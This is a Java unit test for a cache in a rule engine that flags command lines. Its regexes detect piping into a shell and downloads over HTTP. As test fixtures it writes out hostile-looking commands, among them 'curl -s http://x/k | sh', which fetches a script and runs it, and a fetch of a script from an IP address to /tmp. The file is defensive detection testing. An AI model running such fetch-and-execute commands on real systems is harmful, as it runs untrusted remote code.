package io.sightline.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.engine.CompiledRules.Expression;
import io.sightline.engine.CompiledRules.ExpressionCache;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class ExpressionCacheTest {

    private static final Expression PIPE_TO_SHELL = new Expression(Pattern.compile("\\|\\s*(ba)?sh\\b"), 0);
    private static final Expression DOWNLOAD = new Expression(Pattern.compile("https?://"), 1);

    @Test
    void keepsEachExpressionsOwnAnswerForTheSameCommandLine() {
        ExpressionCache cache = new ExpressionCache(2);
        String fetchOnly = "-fsSL https://203.0.113.47/k.sh -o /tmp/k.sh";

        for (int i = 0; i < 3; i++) {
            assertThat(cache.finds(PIPE_TO_SHELL, fetchOnly)).isFalse();
            assertThat(cache.finds(DOWNLOAD, fetchOnly)).isTrue();
        }
    }

    @Test
    void answersAsTheExpressionDoesOnceItHasStartedAgainEmpty() {
        ExpressionCache cache = new ExpressionCache(2);
        String piped = "-c \"curl -s http://x/k | sh\"";
        assertThat(cache.finds(PIPE_TO_SHELL, piped)).isTrue();

        for (int i = 0; i < 300; i++) {
            assertThat(cache.finds(PIPE_TO_SHELL, "-c \"gzip -9 /srv/out/" + i + ".csv\""))
                    .isFalse();
        }

        assertThat(cache.finds(PIPE_TO_SHELL, piped)).isTrue();
        assertThat(cache.finds(PIPE_TO_SHELL, "-c \"ls | bash\"")).isTrue();
    }
}
